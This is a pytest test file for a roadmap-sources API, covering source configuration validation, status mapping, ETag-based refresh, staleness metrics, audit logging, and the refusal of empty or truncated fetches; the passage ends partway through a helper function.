"""/api/v1/roadmap/sources: config, status mappings, refresh (ETag/304, failures keep the last
good catalog), staleness in the API and the metrics gauge."""

from __future__ import annotations

import json
import time

import httpx
import pytest
import respx
from prometheus_client import REGISTRY
from sqlmodel import Session, select

from app.models import AuditLog
from app.models import Feature as FeatureRow

URL = "https://roadmap.example.com/features"


@pytest.fixture(autouse=True)
def _token(monkeypatch):
    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok")


def _gauge(source: str) -> float | None:
    return REGISTRY.get_sample_value(
        "roadmap_guard_roadmap_source_staleness_seconds", {"source": source}
    )


def _page(*features, next_url=None):
    return {"features": list(features), "next": next_url}


def _source(client, headers, **extra):
    body = {
        "name": "acme",
        "kind": "http",
        "config": {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"},
        "status_mapping": {"GA": "available", "Planned": "coming_soon"},
        **extra,
    }
    r = client.post("/api/v1/roadmap/sources", json=body, headers=headers)
    assert r.status_code == 201, r.text
    return r.json()


def _availability(engine) -> dict[str, str]:
    with Session(engine) as s:
        return {
            f.key: f.availability
            for f in s.exec(select(FeatureRow).where(FeatureRow.source == "acme"))
        }


@pytest.fixture
def mock_api():
    with respx.mock(assert_all_called=False) as router:
        router.route(host="testserver").pass_through()
        yield router


def test_refresh_replaces_features_then_304_keeps_them(client, api_key, engine, mock_api):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(
            200,
            headers={"ETag": '"r1"'},
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},
                {"key": "scim", "name": "SCIM", "status": "Planned", "target_date": "2026-09-30"},
                {"key": "dark", "name": "Dark mode", "status": "Exploring"},
            ),
        ),
        httpx.Response(304),
        httpx.Response(
            200, headers={"ETag": '"r2"'}, json=_page({"key": "sso", "name": "SSO", "status": "GA"})
        ),
    ]
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    assert r.status_code == 200, r.text
    assert (r.json()["ok"], r.json()["created"], r.json()["fetched"]) == (True, 3, 3)
    assert _availability(engine) == {"sso": "available", "scim": "coming_soon", "dark": "unknown"}

    source = client.get("/api/v1/roadmap/sources/acme", headers=api_key("viewer")).json()
    assert source["etag"] == '"r1"' and source["feature_count"] == 3
    assert source["unmapped_statuses"] == ["Exploring"]  # visible, so RevOps can map it
    assert source["last_error"] is None and source["stale"] is False
    assert (source["last_change"]["created"], source["last_change"]["fetched"]) == (3, 3)
    assert "features" not in source["last_change"]  # diffs stay in the audit log, not the list

    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert r["not_modified"] is True and r["ok"] is True
    assert route.calls[1].request.headers["If-None-Match"] == '"r1"'
    assert len(_availability(engine)) == 3

    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert (r["deleted"], r["updated"], r["created"]) == (2, 0, 0)
    assert _availability(engine) == {"sso": "available"}
    with Session(engine) as s:
        refreshes = s.exec(select(AuditLog).where(AuditLog.action == "roadmap.refresh")).all()
    assert len(refreshes) == 2  # the 304 changed nothing, so it audits nothing


def _refresh_entries(engine) -> list[AuditLog]:
    with Session(engine) as s:
        return list(
            s.exec(
                select(AuditLog).where(AuditLog.action == "roadmap.refresh").order_by(AuditLog.id)
            )
        )


def test_refresh_audit_records_each_feature_before_and_after(client, api_key, engine, mock_api):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},
                {"key": "scim", "name": "SCIM", "status": "Planned", "target_date": "2026-09-30"},
                {"key": "dark", "name": "Dark mode", "status": "Planned"},
            ),
        ),
        httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},  # unchanged: not listed
                {"key": "scim", "name": "SCIM", "status": "GA", "target_date": "2026-12-31"},
            ),
        ),
    ]
    client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    created, changed = _refresh_entries(engine)

    assert created.before["features"] == {"sso": None, "scim": None, "dark": None}
    assert created.after["features"]["scim"]["target_date"] == "2026-09-30"
    assert created.after["features"]["scim"]["availability"] == "coming_soon"
    assert created.after["features"]["sso"]["name"] == "SSO"

    assert changed.before["features"] == {
        "scim": {
            "availability": "coming_soon",
            "target_date": "2026-09-30",
            "source_status": "Planned",
        },
        "dark": {**created.after["features"]["dark"]},
    }
    assert changed.after["features"] == {
        "scim": {"availability": "available", "target_date": "2026-12-31", "source_status": "GA"},
        "dark": None,
    }
    assert (changed.after["updated"], changed.after["deleted"]) == (1, 1)
    assert (changed.after["features_changed"], changed.after["features_listed"]) == (2, 2)


def test_refresh_audit_lists_at_most_the_limit_and_says_so(
    client, api_key, engine, mock_api, monkeypatch
):
    from app.services import roadmap_refresh

    monkeypatch.setattr(roadmap_refresh, "AUDIT_FEATURE_LIMIT", 2)
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200, json=_page(*({"key": f"f{n}", "name": f"F{n}", "status": "GA"} for n in range(5)))
        )
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    (entry,) = _refresh_entries(engine)
    assert list(entry.before["features"]) == list(entry.after["features"]) == ["f0", "f1"]
    assert entry.after["features_changed"] == 5
    assert (entry.after["features_listed"], entry.after["features_limit"]) == (2, 2)
    assert entry.after["created"] == 5


def test_failing_source_keeps_last_good_catalog_and_reports_staleness(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"})),
        httpx.Response(500, text="maintenance"),
        httpx.ConnectError("refused"),
        httpx.Response(200, json={"items": []}),
    ]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    for expected in ("HTTP 500", "ConnectError", "no 'features' list"):
        r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
        assert r["ok"] is False and expected in r["error"]
        assert _availability(engine) == {"sso": "available"}
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert "no 'features' list" in source["last_error"]
    assert source["last_success_at"] is not None and source["staleness_seconds"] >= 0
    assert _gauge("acme") >= 0


def test_never_refreshed_source_is_stale(client, api_key):
    revops = api_key("revops")
    _source(client, revops)
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["stale"] is True and source["staleness_seconds"] is None
    assert _gauge("acme") == -1


def test_key_owned_by_another_source_fails_refresh_without_writing(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    client.post("/api/v1/features", json={"key": "sso", "name": "SSO"}, headers=revops)
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200, json=_page({"key": "new", "name": "New"}, {"key": "sso", "name": "SSO 2"})
        )
    )
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert r["ok"] is False and "sso (owned by registry)" in r["error"]
    assert _availability(engine) == {}


def test_status_mapping_edit_changes_availability(client, api_key, engine, mock_api):
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200,
            json=_page(
                {"key": "sso", "name": "SSO", "status": "GA"},
                {"key": "dark", "name": "Dark", "status": "Exploring"},
            ),
        )
    )
    client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_mapping": {"ga": "beta", "exploring": "uncertain"}},
        headers=revops,
    )
    assert r.status_code == 200, r.text
    assert r.json()["source"]["unmapped_statuses"] == []
    assert _availability(engine) == {"sso": "beta", "dark": "uncertain"}
    with Session(engine) as s:
        entry = s.exec(select(AuditLog).where(AuditLog.action == "roadmap_source.update")).one()
    assert entry.before["status_mapping"] == {"GA": "available", "Planned": "coming_soon"}
    # Which features the edit re-mapped, in the shape of a refresh's entry.
    assert entry.before["features"] == {
        "dark": {"availability": "unknown"},
        "sso": {"availability": "available"},
    }
    assert entry.after["features"] == {
        "dark": {"availability": "uncertain"},
        "sso": {"availability": "beta"},
    }
    assert (
        entry.after["features_changed"],
        entry.after["features_listed"],
        entry.after["features_limit"],
    ) == (2, 2, 500)
    # An external feature is edited at its source, not here.
    r = client.patch("/api/v1/features/sso", json={"availability": "never"}, headers=revops)
    assert r.status_code == 409


def test_source_validation(client, api_key):
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "j", "kind": "jira", "config": {"base_url": "ftp://x", "api_token": "abc"}},
        headers=revops,
    )
    assert r.status_code == 422
    paths = {d["path"] for d in r.json()["error"]["details"]}
    assert {"config.jql", "config.token_env", "config.api_token", "config.base_url"} <= paths
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "Bad Name", "kind": "svn", "status_mapping": {"x": "soon"}},
        headers=revops,
    )
    assert r.status_code == 422
    locs = {tuple(e["loc"][:2]) for e in r.json()["detail"]}
    assert {("body", "name"), ("body", "kind"), ("body", "status_mapping")} <= locs
    _source(client, revops)
    assert (
        client.post(
            "/api/v1/roadmap/sources",
            json={"name": "acme", "kind": "http", "config": {"url": URL}},
            headers=revops,
        ).status_code
        == 409
    )
    assert (
        client.post(
            "/api/v1/roadmap/sources",
            json={"name": "registry", "kind": "http", "config": {"url": URL}},
            headers=revops,
        ).status_code
        == 409
    )
    assert client.post("/api/v1/roadmap/sources/nope/refresh", headers=revops).status_code == 404
    assert (
        client.post("/api/v1/roadmap/sources/registry/refresh", headers=revops).status_code == 422
    )
    assert (
        client.patch(
            "/api/v1/roadmap/sources/acme", json={"config": {}}, headers=revops
        ).status_code
        == 422
    )
    assert (
        client.post("/api/v1/roadmap/sources/acme/refresh", headers=api_key("viewer")).status_code
        == 403
    )


def test_list_includes_registry_and_defaults(client, api_key):
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={
            "name": "pb",
            "kind": "productboard",
            "config": {"token_env": "ROADMAP_SOURCE_PB_TOKEN"},
        },
        headers=revops,
    )
    assert r.status_code == 201
    mapping = r.json()["status_mapping"]  # the kind's default mapping
    assert mapping["Released"] == "available"
    # Productboard's built-in status for shipped features (renamable, never deleted)
    assert mapping["Launched"] == "available" and mapping["Candidate"] == "uncertain"
    names = [
        s["name"]
        for s in client.get("/api/v1/roadmap/sources", headers=api_key("engineering")).json()[
            "items"
        ]
    ]
    assert names == ["registry", "pb"]
    assert client.delete("/api/v1/roadmap/sources/pb", headers=revops).status_code == 200
    assert client.get("/api/v1/roadmap/sources/pb", headers=revops).status_code == 404


def test_schedule_refreshes_every_enabled_source_and_records_failures(
    client, api_key, engine, settings, mock_api
):
    from app.jobs.schedules import JobContext, load_schedules

    revops = api_key("revops")
    _source(client, revops)
    _source(client, revops, name="broken", config={"url": "https://down.example.com/f"})
    _source(client, revops, name="off", enabled=False, config={"url": "https://off.example.com/f"})
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    mock_api.get("https://down.example.com/f").mock(return_value=httpx.Response(502))
    job = load_schedules()["roadmap_refresh"]
    assert job.interval(settings) == settings.roadmap_refresh_seconds
    state = job.run(JobContext(engine=engine, settings=settings, connectors={}))
    assert state == {"last": {"acme": "ok", "broken": "error"}}
    assert _availability(engine) == {"sso": "available"}


def test_cli_refresh_and_mappings_import(sqlite_engine, tmp_path, monkeypatch, capsys, mock_api):
    from app.cli import main
    from app.services.roadmap_sources import SourceCreate, create_source
    from app.settings import get_settings

    with Session(sqlite_engine) as s:
        create_source(s, SourceCreate(name="acme", kind="http", config={"url": URL}), actor="t")
        s.commit()
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "ga"}))
    )
    good = tmp_path / "m.csv"
    good.write_text("match_kind,match_value,feature_keys\nsku,S-1,sso\n")
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps([{"match_kind": "sku", "match_value": "S-2", "feature_keys": ["zz"]}])
    )
    monkeypatch.setenv("DATABASE_URL", sqlite_engine.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    try:
        assert main(["roadmap", "refresh", "--source", "acme"]) == 0
        assert main(["mappings", "import", str(good)]) == 0
        assert main(["mappings", "import", str(bad)]) == 1
        assert main(["roadmap", "refresh", "--source", "nope"]) == 2
    finally:
        get_settings.cache_clear()
    out = capsys.readouterr()
    assert "acme: 1 features in 1 page(s): 1 new" in out.out
    assert "created 1" in out.out
    assert "row 1: feature_keys[0]: unknown feature key 'zz'" in out.err


def test_statuses_list_stored_and_productboard_workspace_statuses(client, api_key, mock_api):
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={
            "name": "pb",
            "kind": "productboard",
            "config": {"token_env": "ROADMAP_SOURCE_ACME_TOKEN", "api_version": "1"},
        },
        headers=revops,
    )
    assert r.status_code == 201
    feature = {"id": "f1", "name": "Dark mode", "status": {"id": "s9", "name": "Parked"},
               "links": {"html": "https://x/f1"}, "timeframe": {"endDate": "none"}}  # fmt: skip
    mock_api.get("https://api.productboard.com/features").mock(
        return_value=httpx.Response(200, json={"data": [feature], "links": {"next": None}})
    )
    statuses = mock_api.get("https://api.productboard.com/feature-statuses")
    statuses.side_effect = [
        httpx.Response(
            200,
            json={
                "data": [
                    {"id": "s1", "name": "Planned", "completed": False},
                    {"id": "s9", "name": "Parked", "completed": False},
                ],
                "links": {"next": None},
            },
        ),
        httpx.Response(401, json={"errors": [{"detail": "unauthorized"}]}),
    ]
    assert client.post("/api/v1/roadmap/sources/pb/refresh", headers=revops).json()["ok"]
    r = client.get("/api/v1/roadmap/sources/pb/statuses", headers=api_key("viewer"))
    assert r.status_code == 200, r.text
    assert r.json()["items"] == [
        {"name": "Parked", "availability": "unknown", "mapped": False, "features": 1},
        {"name": "Planned", "availability": "coming_soon", "mapped": True, "features": 0},
    ]
    assert statuses.calls[0].request.headers["X-Version"] == "1"
    assert r.json()["warnings"] == []
    # the live read failing (a token only the workers have, Productboard down): the stored
    # features' statuses are still listed to map, with a warning saying what is missing
    r = client.get("/api/v1/roadmap/sources/pb/statuses", headers=revops)
    assert r.status_code == 200, r.text
    assert r.json()["items"] == [
        {"name": "Parked", "availability": "unknown", "mapped": False, "features": 1}
    ]
    (warning,) = r.json()["warnings"]
    assert "HTTP 401" in warning and "stored features only" in warning


def test_a_status_spelt_several_ways_counts_all_its_features(client, api_key, mock_api):
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(
            200,
            json=_page(
                {"key": "a", "name": "A", "status": "GA"},
                {"key": "b", "name": "B", "status": "GA"},
                {"key": "c", "name": "C", "status": "ga"},
                {"key": "d", "name": "D", "status": "Planned"},
            ),
        )
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    r = client.get("/api/v1/roadmap/sources/acme/statuses", headers=revops)
    assert r.json()["items"] == [
        {"name": "GA", "availability": "available", "mapped": True, "features": 3},
        {"name": "Planned", "availability": "coming_soon", "mapped": True, "features": 1},
    ]


def test_every_config_mistake_is_refused_with_its_path_and_nothing_is_stored(client, api_key):
    revops = api_key("revops")
    bad = {"url": URL, "timeout_seconds": "x", "auth_evn": "FOO"}
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "hx2", "kind": "http", "config": bad},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    details = r.json()["error"]["details"]
    assert {(tuple(d["loc"]), d["path"], d["type"]) for d in details} == {
        (("config", "timeout_seconds"), "config.timeout_seconds", "float_type"),
        (("config", "auth_evn"), "config.auth_evn", "extra_forbidden"),
    }
    said = {d["path"]: d["msg"] for d in details}
    assert said["config.auth_evn"].endswith("; did you mean 'auth_env'?")
    assert client.get("/api/v1/roadmap/sources/hx2", headers=revops).status_code == 404
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "hx2", "kind": "http", "config": {"url": URL, "timeout_seconds": -1}},
        headers=revops,
    )
    assert r.status_code == 422 and r.json()["error"]["details"][0]["type"] == "greater_than"
    _source(client, revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"config": {"url": URL, "page_size": 10}, "status_mapping": {"GA": "x-ray"}},
        headers=revops,
    )
    assert r.status_code == 422  # the availability's shape and the config's, in one answer
    assert [d["path"] for d in r.json()["error"]["details"]] == [
        "config.page_size",
        "status_mapping.GA",
    ]
    # Nothing close to page_size: the keys an http config may have are listed.
    assert "; allowed here: " in r.json()["error"]["details"][0]["msg"]
    assert "auth_env" in r.json()["error"]["details"][0]["msg"]
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={
            "config": {"url": URL, "page_size": 10},
            "status_mapping": {"GA": "available", "ga": "never"},
        },
        headers=revops,
    )
    assert r.status_code == 422  # config and mapping mistakes in one answer
    assert {d["path"] for d in r.json()["error"]["details"]} == {
        "config.page_size",
        "status_mapping.ga",
    }
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["config"] == {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"}


@pytest.mark.parametrize(
    ("kind", "config", "path"),
    [
        ("http", {"url": "https://x.example.com:99999/f"}, "config.url"),
        ("http", {"url": "https://[::1/features"}, "config.url"),
        ("productboard", {"token_env": "ROADMAP_SOURCE_T", "base_url": "https://[::1"}, "config.base_url"),
        ("productboard", {"token_env": "ROADMAP_SOURCE_T", "base_url": "https://[fe80::1]:x"}, "config.base_url"),
        ("jira", {"base_url": "https://acme.example.com:0", "jql": "x", "token_env": "ROADMAP_SOURCE_T"},
         "config.base_url"),
    ],
)  # fmt: skip
def test_a_url_the_client_cannot_request_is_refused_at_its_path(
    client, api_key, kind, config, path
):
    """The pattern let these through: stored, then every refresh failed and the statuses
    route answered 500."""
    revops = api_key("revops")
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "bad-url", "kind": kind, "config": config},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    [detail] = r.json()["error"]["details"]
    assert detail["path"] == path and "not a URL the client can request" in detail["msg"]
    assert client.get("/api/v1/roadmap/sources/bad-url", headers=revops).status_code == 404


def test_unset_auth_env_is_a_warning_not_a_refusal(client, api_key, monkeypatch):
    revops = api_key("revops")
    monkeypatch.delenv("ROADMAP_SOURCE_ACME_TOKEN")
    source = _source(client, revops)  # 201: the variable may be set on the workers only
    assert len(source["warnings"]) == 1
    assert (
        "config.auth_env: environment variable ROADMAP_SOURCE_ACME_TOKEN" in source["warnings"][0]
    )
    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok")
    assert client.get("/api/v1/roadmap/sources/acme", headers=revops).json()["warnings"] == []


def test_contradictory_status_mapping_is_refused_and_agreeing_spellings_stored_once(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_mapping": {"GA": "available", "ga": "never"}},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    (detail,) = r.json()["error"]["details"]
    assert (detail["loc"], detail["type"]) == (["status_mapping", "ga"], "conflicting_status")
    assert _availability(engine) == {"sso": "available"}
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "hx", "kind": "http", "config": {"url": URL},
              "status_mapping": {"Beta ": "beta", " beta": "available"}},
        headers=revops,
    )  # fmt: skip
    assert r.status_code == 422
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"status_mapping": {"GA": "beta", "ga": "beta", " G A": "never"}},
        headers=revops,
    )
    assert r.status_code == 200, r.text
    assert r.json()["source"]["status_mapping"] == {"GA": "beta", " G A": "never"}
    assert r.json()["features_remapped"] == 1
    assert _availability(engine) == {"sso": "beta"}


def test_feature_key_outside_the_registry_pattern_fails_refresh_naming_page_and_item(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    good = _page({"key": "sso", "name": "SSO", "status": "GA"})
    route.side_effect = [
        httpx.Response(200, json=good),
        httpx.Response(200, json=_page({"key": "ok", "name": "OK"}, next_url="?page=2")),
        httpx.Response(200, json=_page({"key": "fine", "name": "Fine"}, {"key": "x y/z", "name": "X"})),
    ]  # fmt: skip
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert r["ok"] is False and "page 2 features[1].key: 'x y/z' is not a feature key" in r["error"]
    assert _availability(engine) == {"sso": "available"}  # the last good catalog stays
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert "features[1].key" in source["last_error"] and source["feature_count"] == 1


def _map(client, headers, sku: str, *keys: str) -> int:
    r = client.post(
        "/api/v1/mappings",
        json={"match_kind": "sku", "match_value": sku, "feature_keys": list(keys)},
        headers=headers,
    )
    assert r.status_code == 201, r.text
    return r.json()["mapping"]["id"]


def test_refresh_reports_mappings_left_pointing_at_deleted_features(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(200, json=_page({"key": "hx-exp", "name": "Export", "status": "GA"},
                                       {"key": "sso", "name": "SSO", "status": "GA"})),
        httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"})),
    ]  # fmt: skip
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    exp = _map(client, revops, "HX-EXP", "hx-exp", "sso")
    _map(client, revops, "HX-SSO", "sso")

    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert (r["ok"], r["deleted"]) == (True, 1)
    orphan = {"id": exp, "match_kind": "sku", "match_value": "HX-EXP",
              "unknown_feature_keys": ["hx-exp"]}  # fmt: skip
    assert r["orphaned_mappings"] == [orphan]
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["orphaned_mappings"] == [orphan]
    assert source["last_change"]["orphaned_mappings"] == [orphan]

    # fixed through the mappings API: the source stops reporting it
    r = client.put(f"/api/v1/mappings/{exp}", json={"feature_keys": ["sso"]}, headers=revops)
    assert r.status_code == 200, r.text
    assert (
        client.get("/api/v1/roadmap/sources/acme", headers=revops).json()["orphaned_mappings"] == []
    )


def test_delete_source_answers_like_patch_reports_orphans_and_drops_its_gauge(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "hx-exp", "name": "Export"}))
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    exp = _map(client, revops, "HX-EXP", "hx-exp")
    assert _gauge("acme") is not None

    r = client.delete("/api/v1/roadmap/sources/acme", headers=revops)
    assert r.status_code == 200, r.text
    body = r.json()
    assert set(body) == {
        "name",
        "features_deleted",
        "deals_reevaluated",
        "deals_requeued",
        "deals_deferred",
        "orphaned_mappings",
    }
    assert (body["name"], body["features_deleted"]) == ("acme", 1)
    assert body["orphaned_mappings"] == [
        {
            "id": exp,
            "match_kind": "sku",
            "match_value": "HX-EXP",
            "unknown_feature_keys": ["hx-exp"],
        }
    ]
    assert _gauge("acme") is None  # no -1 left behind to keep an alert firing
    metrics = client.get("/metrics").text
    assert 'roadmap_guard_roadmap_source_staleness_seconds{source="acme"}' not in metrics
    with Session(engine) as s:
        entry = s.exec(select(AuditLog).where(AuditLog.action == "roadmap_source.delete")).one()
    assert entry.before["feature_count"] == 1
    assert entry.before["features"]["hx-exp"]["name"] == "Export"
    assert entry.after == {
        "features_changed": 1,
        "features_listed": 1,
        "features_limit": 500,
        "features": {"hx-exp": None},
        "orphaned_mappings": body["orphaned_mappings"],
    }
    # a new source of the same name has no refresh yet: not the deleted one's last change
    _source(client, revops)
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert (source["last_change"], source["orphaned_mappings"]) == (None, [])


def test_scheduled_refresh_drops_gauge_series_of_sources_deleted_elsewhere(
    client, api_key, engine, settings, mock_api
):
    from app.metrics import ROADMAP_STALENESS
    from app.services.roadmap_refresh import refresh_all

    revops = api_key("revops")
    _source(client, revops, enabled=False)
    ROADMAP_STALENESS.labels(source="gone-elsewhere").set(-1)
    assert refresh_all(engine) == []
    assert _gauge("gone-elsewhere") is None
    assert _gauge("acme") == -1  # disabled, still there: its series stays


def test_a_roadmap_item_with_a_nul_character_is_stored_not_a_failed_refresh(
    client, api_key, engine, mock_api
):
    """PostgreSQL text cannot hold NUL: one roadmap item carrying one failed every refresh of
    its source. The item is stored with U+FFFD in its place, on both databases."""
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).respond(
        200,
        json=_page(
            {"key": "sso", "name": "SSO", "status": "GA"},
            {"key": "dark", "name": "Dark\u0000 mode", "status": "Planned"},
        ),
    )
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
    assert r.status_code == 200, r.text
    assert (r.json()["ok"], r.json()["created"]) == (True, 2), r.json()
    with Session(engine) as s:
        assert s.get(FeatureRow, "dark").name == "Dark\ufffd mode"


# --- an empty or truncated fetch does not wipe the catalog -------------------------------------


def _features(n: int, prefix: str = "f") -> list[dict]:
    return [
        {"key": f"{prefix}{i}", "name": f"Feature {prefix}{i}", "status": "GA"} for i in range(n)
    ]


def _source_row(engine):
    from app.models import RoadmapSource

    with Session(engine) as s:
        return s.get(RoadmapSource, "acme")


def test_an_empty_fetch_is_refused_keeps_the_catalog_and_can_be_accepted_explicitly(
    client, api_key, engine, mock_api
):
    from app.services.roadmap_refresh import refresh_source

    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(200, headers={"ETag": '"r1"'}, json=_page(*_features(2))),
        httpx.Response(200, headers={"ETag": '"r2"'}, json=_page()),  # e.g. during a deploy
        httpx.Response(200, headers={"ETag": '"r2"'}, json=_page()),
    ]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    first_success = _source_row(engine).last_success_at

    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert r["ok"] is False and r["deleted"] == 0
    assert "would remove all 2 of the source's features" in r["error"]
    assert "--accept-removals" in r["error"]
    assert set(_availability(engine)) == {"f0", "f1"}
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert "would remove all 2" in source["last_error"]
    assert source["etag"] == '"r1"'  # the refused catalog's ETag is not kept: no 304 trap
    assert source["feature_count"] == 2
    assert _source_row(engine).last_success_at == first_success  # the staleness grows
    assert route.calls[2 - 1].request.headers["If-None-Match"] == '"r1"'

    result = refresh_source(engine, "acme", actor="user:ops@example.com", accept_removals=True)
    assert (result.ok, result.deleted, result.removals_accepted) == (True, 2, True)
    assert _availability(engine) == {}
    entry = _refresh_entries(engine)[-1]
    assert entry.actor == "user:ops@example.com"
    assert entry.after["removals_accepted"] is True and entry.after["deleted"] == 2
    assert _source_row(engine).last_error is None


def test_removing_more_than_the_configured_share_is_refused_small_changes_pass(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    route = mock_api.get(URL)
    route.side_effect = [
        httpx.Response(200, json=_page(*_features(10))),
        httpx.Response(200, json=_page(*_features(4))),  # a truncated answer: 6 of 10 gone
        httpx.Response(200, json=_page(*_features(8))),  # 2 removed: always allowed
        httpx.Response(200, json=_page(*_features(3))),  # 5 of 8 with the share raised
    ]
    refresh = "/api/v1/roadmap/sources/acme/refresh"
    assert client.post(refresh, headers=revops).json()["created"] == 10
    r = client.post(refresh, headers=revops).json()
    assert r["ok"] is False
    assert "would remove 6 of the source's 10 features (60%" in r["error"]
    assert len(_availability(engine)) == 10
    r = client.post(refresh, headers=revops).json()
    assert (r["ok"], r["deleted"]) == (True, 2)
    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "max_removed_share": 0.75}
    patched = client.patch("/api/v1/roadmap/sources/acme", json={"config": config}, headers=revops)
    assert patched.status_code == 200, patched.text
    r = client.post(refresh, headers=revops).json()
    assert (r["ok"], r["deleted"]) == (True, 5)


def test_a_jira_search_that_suddenly_finds_nothing_is_refused(engine, mock_api):
    """Jira answers 200 with no issues when the token's user loses Browse permission."""
    from app.db import session_scope
    from app.models import RoadmapSource
    from app.services.roadmap_refresh import refresh_source

    with session_scope(engine) as s:
        s.add(
            RoadmapSource(
                name="jira",
                kind="jira",
                config={
                    "base_url": "https://acme.atlassian.net",
                    "jql": "labels = roadmap",
                    "token_env": "ROADMAP_SOURCE_ACME_TOKEN",
                    "email": "a@b.co",
                },
                status_mapping={"Done": "available"},
            )
        )
    issue = lambda k: {  # noqa: E731
        "key": k,
        "fields": {"summary": k, "status": {"name": "Done"}, "duedate": None},
    }
    mock_api.get("https://acme.atlassian.net/rest/api/3/search/jql").side_effect = [
        httpx.Response(200, json={"issues": [issue("RM-1"), issue("RM-2")], "isLast": True}),
        httpx.Response(200, json={"issues": [], "isLast": True}),
    ]
    assert refresh_source(engine, "jira").ok
    result = refresh_source(engine, "jira")
    assert result.ok is False and "would remove all 2" in result.error
    with Session(engine) as s:
        assert sorted(s.exec(select(FeatureRow.key))) == ["RM-1", "RM-2"]


# --- one 422 for every mistake of a source body ---------------------------------------------------


def _sources_state(client, headers, engine) -> tuple:
    """What a refused write must leave as it was: the listed sources, and the audit log."""
